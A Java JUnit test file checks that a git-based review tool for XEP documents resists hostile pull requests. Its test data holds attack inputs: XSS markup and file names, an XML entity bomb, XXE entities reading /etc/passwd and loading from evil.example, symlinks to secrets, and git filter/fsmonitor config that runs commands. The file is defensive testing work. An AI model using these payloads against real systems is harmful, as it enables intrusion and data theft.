package org.xeptools.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.dircache.DirCache;
import org.eclipse.jgit.dircache.DirCacheBuilder;
import org.eclipse.jgit.dircache.DirCacheEntry;
import org.eclipse.jgit.lib.FileMode;
import org.eclipse.jgit.lib.ObjectId;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Reviews of pull requests that are made to do harm: all of it is told, none of it happens. */
class HostileReviewTest extends HostileRepository {
  private static final String MARKUP =
      "<script>alert(1)</script> @everyone [a](https://evil.example) | ``` #1 <!--";

  private Path review() {
    return folder.resolve("review");
  }

  private int review(String revisions, String... more) {
    String[] words = {"review", "--no-pdf", revisions, tree + "", "-o", review() + ""};
    return run(Stream.concat(Stream.of(words), Stream.of(more)).toArray(String[]::new));
  }

  private Document page(String name) throws IOException {
    return Jsoup.parse(Files.readString(review().resolve(name)));
  }

  private String summary() throws IOException {
    return Files.readString(review().resolve("summary.md"));
  }

  private static String titled(String title) {
    String escaped = title.replace("&", "&amp;").replace("<", "&lt;");
    return document("0.4").replace("Boats", escaped);
  }

  /** Nothing of a page's text is markup, and the Markdown has no mention, no link and no HTML. */
  private void isHarmless() throws IOException {
    try (Stream<Path> pages = Files.walk(review())) {
      for (Path page : pages.filter(p -> p.toString().endsWith(".html")).toList()) {
        Document html = Jsoup.parse(Files.readString(page));
        assertThat(
                html.select(
                    "script:not([src^=assets/]):not([type=application/ld+json]), iframe, object, form, [onerror]"))
            .as(page + "")
            .isEmpty();
        assertThat(html.select("a[href*=evil], img[src*=evil], a[href^=javascript]")).isEmpty();
      }
    }
    assertThat(summary())
        .doesNotContain("<script", "<!--", "https:/", "@")
        .doesNotContainPattern("(?<!\\\\)[\\[\\]]")
        .doesNotContainPattern("(?m)^(?:#+ (?!xep review|New errors|Other files)|```)")
        .hasSizeLessThan(65_536);
  }

  @ParameterizedTest
  @ValueSource(strings = {"HEAD~1:xep-0001.xml", "HEAD~1^{tree}", "HEAD~1"})
  void whatIsLostIsNoReview(String revision) throws Exception {
    Files.delete(object(revision));
    assertThat(review("HEAD~1..HEAD")).isEqualTo(ExitCode.WRONG_USE);
    oneSentence("git fsck");
    assertThat(review()).doesNotExist();
  }

  @Test
  void titlesAreText() throws Exception {
    Files.writeString(tree.resolve("xep-0001.xml"), titled(MARKUP));
    assertThat(review("HEAD", "--title", MARKUP)).as(err.toString()).isLessThan(2);
    assertThat(page("index.html").select("h1").text()).isEqualTo(MARKUP);
    assertThat(page("index.html").select("#document-1 h2").text()).contains(MARKUP);
    isHarmless();
  }

  @Test
  void aVeryLongTitleLeavesTheSummaryShort() throws Exception {
    Files.writeString(tree.resolve("xep-0001.xml"), titled("|@a ".repeat(50_000)));
    assertThat(review("HEAD")).as(err.toString()).isLessThan(2);
    isHarmless();
  }

  @Test
  void manyDocumentsLeaveTheSummaryShort() throws Exception {
    for (int i = 2; i < 300; i++) {
      String name = String.format("xep-%04d.xml", i);
      Files.writeString(tree.resolve(name), titled(MARKUP.repeat(3)).replace("0001", "000" + i));
    }
    assertThat(review("HEAD")).as(err.toString()).isLessThan(2);
    assertThat(page("index.html").select("tbody tr")).hasSize(298);
    assertThat(summary()).contains(" more documents in the review");
    isHarmless();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a\nb.xml",
        "<img src=x onerror=alert(1)>.xml",
        "'\"&%2e%2e#.xml",
        "\u202Egnp.xml",
        "index.xml",
        "con.xml",
        "xep-0001.changes.xml",
        "--help.xml",
        "ä@everyone.xml"
      })
  void namesOfFilesAreText(String name) throws Exception {
    Files.createDirectory(tree.resolve("inbox"));
    Files.writeString(tree.resolve("inbox").resolve(name), document("0.1").replace("0001", "xxxx"));
    Files.writeString(tree.resolve("xep-0001.xml"), document("0.4"));
    Files.writeString(tree.resolve(name.replace(".xml", ".txt")), "text\n");
    commit();
    assertThat(review("HEAD~1..HEAD")).as(err.toString()).isLessThan(2);
    assertThat(page("index.html").select("tbody tr")).hasSize(2);
    assertThat(page("index.html").select("#others li")).hasSize(1);
    isHarmless();
    try (Stream<Path> files = Files.walk(review())) {
      assertThat(files.map(file -> file.getFileName().toString()))
          .allSatisfy(file -> assertThat(file).matches("[.]?[0-9A-Za-z_.-]+"));
    }
  }

  @Test
  void marksOfDirectionAreVisible() throws Exception {
    Files.writeString(
        tree.resolve("xep-0001.xml"), document("0.4").replace("<p>", "<p>\u202Edrawkcab\u2066 "));
    assertThat(review("HEAD")).as(err.toString()).isLessThan(2);
    assertThat(page("xep-0001.source.html").select("code").text())
        .contains("\uFFFDdrawkcab\uFFFD")
        .doesNotContain("\u202E", "\u2066");
  }

  @Test
  void linksAndSubmodulesAreTold() throws Exception {
    Path secret = Files.writeString(folder.resolve("secret"), "precious");
    Files.createSymbolicLink(tree.resolve("xep-0002.xml"), secret);
    Files.createSymbolicLink(tree.resolve("notes.txt"), secret);
    Files.createSymbolicLink(tree.resolve("outside"), folder);
    commit();
    submodule("module");
    assertThat(review("HEAD~2..HEAD")).as(err.toString()).isLessThan(2);
    assertThat(page("index.html").select("#others li").eachText())
        .contains("notes.txt: new symbolic link", "outside: new symbolic link")
        .contains("xep-0002.xml: new symbolic link", "module: new submodule");
    assertThat(review("HEAD~2")).as(err.toString()).isLessThan(2);
    assertThat(page("index.html").select("#others li").eachText())
        .contains("notes.txt: new symbolic link", "outside: new symbolic link");
    try (Stream<Path> files = Files.walk(review())) {
      for (Path file : files.filter(Files::isRegularFile).toList()) {
        String text = new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1);
        assertThat(text).as(file + "").doesNotContain("precious");
      }
    }
  }

  @Test
  void aFolderThatBecameALinkIsNotFollowed() throws Exception {
    Files.createDirectory(tree.resolve("data"));
    Files.writeString(tree.resolve("data/notes.txt"), "old\n");
    commit();
    Path outside = Files.createDirectory(folder.resolve("outside"));
    Files.writeString(outside.resolve("notes.txt"), "precious\n");
    Files.delete(tree.resolve("data/notes.txt"));
    Files.delete(tree.resolve("data"));
    Files.createSymbolicLink(tree.resolve("data"), outside);
    assertThat(review("HEAD")).as(err.toString()).isZero();
    assertThat(page("index.html").select("#others li").eachText())
        .containsExactly("data/notes.txt: removed");
  }

  @Test
  void aFilterOfTheRepositoryIsNotRun() throws Exception {
    Path owned = folder.resolve("owned");
    Files.writeString(tree.resolve("notes.txt"), "old\n");
    commit();
    Files.writeString(
        git("config"),
        "[filter \"x\"]\n\tclean = touch "
            + owned
            + "\n\tsmudge = touch "
            + owned
            + "\n[core]\n\tfsmonitor = touch "
            + owned
            + "\n[diff \"x\"]\n\ttextconv = touch "
            + owned
            + "\n");
    Files.writeString(tree.resolve(".gitattributes"), "* filter=x diff=x\n");
    Files.writeString(tree.resolve("notes.txt"), "new\n");
    assertThat(review("HEAD")).as(err.toString()).isZero();
    assertThat(page("index.html").select("#others li").eachText())
        .containsExactly("notes.txt: changed");
    assertThat(owned).doesNotExist();
  }

  @Test
  void aBombOfEntitiesIsAFinding() throws Exception {
    StringBuilder bomb = new StringBuilder("<!ENTITY a0 'aaaaaaaaaa'>\n");
    for (int i = 1; i < 30; i++) {
      bomb.append("<!ENTITY a" + i + " '" + ("&a" + (i - 1) + ";").repeat(10) + "'>\n");
    }
    Files.writeString(
        tree.resolve("xep-0001.xml"),
        "<!DOCTYPE xep [" + bomb + "]>" + document("0.4").replace("Of ", "&a29; "));
    assertThat(review("HEAD")).as(err.toString()).isEqualTo(ExitCode.FINDINGS);
    assertThat(page("xep-0001.source.html").select(".beside.error")).isNotEmpty();
    isHarmless();
  }

  @Test
  void declarationsThatChangeAreShownWithTheirLines() throws Exception {
    Files.writeString(tree.resolve("xep.ent"), "<!ENTITY boats 'Boats'>\n");
    Files.writeString(tree.resolve("xep.dtd"), "<!ELEMENT xep ANY>\n");
    commit();
    Files.writeString(
        tree.resolve("xep.ent"),
        "<!ENTITY boats SYSTEM 'file:///etc/passwd'>\n<!ENTITY % more SYSTEM 'http://evil.example/x'>\n%more;\n");
    Files.writeString(tree.resolve("xep.dtd"), "<!ELEMENT xep EMPTY>\n");
    assertThat(review("HEAD")).as(err.toString()).isLessThan(2);
    assertThat(page("index.html").select("#others a.file").eachText())
        .containsExactly("xep.dtd", "xep.ent");
    assertThat(page("xep-dtd.source.html").select(".line.removed code").text())
        .isEqualTo("<!ELEMENT xep ANY>");
    isHarmless();
  }

  @Test
  void aFileOfManyLinesIsCut() throws Exception {
    Files.writeString(tree.resolve("xep-0002.xml"), "x\n".repeat(900_000));
    Files.writeString(tree.resolve("xep-0003.xml"), "y".repeat(1_900_000));
    assertThat(review("HEAD")).as(err.toString()).isEqualTo(ExitCode.FINDINGS);
    assertThat(Files.size(review().resolve("xep-0002.source.html"))).isLessThan(6_000_000);
    assertThat(Files.size(review().resolve("xep-0003.source.html"))).isLessThan(20_000);
  }

  /** A small tree that contains itself again and again. */
  @Test
  void aTreeOfManyPathsIsCut() throws Exception {
    try (Git git = Git.open(tree.toFile());
        var inserter = git.getRepository().newObjectInserter()) {
      ObjectId blob = inserter.insert(org.eclipse.jgit.lib.Constants.OBJ_BLOB, new byte[] {'a'});
      ObjectId level = null;
      for (int i = 0; i < 20; i++) {
        var formatter = new org.eclipse.jgit.lib.TreeFormatter();
        for (String name : List.of("a", "b", "c")) {
          formatter.append(
              name,
              level == null ? FileMode.REGULAR_FILE : FileMode.TREE,
              level == null ? blob : level);
        }
        level = inserter.insert(formatter);
      }
      var commit = new org.eclipse.jgit.lib.CommitBuilder();
      commit.setTreeId(level);
      commit.setAuthor(SOMEBODY);
      commit.setCommitter(SOMEBODY);
      commit.setMessage("bomb");
      ObjectId id = inserter.insert(commit);
      inserter.flush();
      assertThat(review("HEAD.." + id.name())).as(err.toString()).isLessThan(2);
    }
    assertThat(page("index.html").select("#others p").text()).contains("There are more");
    assertThat(page("index.html").select("#others li")).hasSizeBetween(100, 2_000);
    isHarmless();
  }

  private void commit() throws Exception {
    try (Git git = Git.open(tree.toFile())) {
      git.add().addFilepattern(".").call();
      git.commit().setAuthor(SOMEBODY).setCommitter(SOMEBODY).setSign(false).setMessage("x").call();
    }
  }

  /** Commits a submodule, whose commit nobody has. */
  private void submodule(String name) throws Exception {
    try (Git git = Git.open(tree.toFile())) {
      DirCache index = git.getRepository().lockDirCache();
      DirCacheBuilder builder = index.builder();
      for (int i = 0; i < index.getEntryCount(); i++) {
        builder.add(index.getEntry(i));
      }
      DirCacheEntry entry = new DirCacheEntry(name);
      entry.setFileMode(FileMode.GITLINK);
      entry.setObjectId(ObjectId.fromString("0123456789012345678901234567890123456789"));
      builder.add(entry);
      assertThat(builder.commit()).isTrue();
      git.commit().setAuthor(SOMEBODY).setCommitter(SOMEBODY).setSign(false).setMessage("x").call();
    }
  }
}
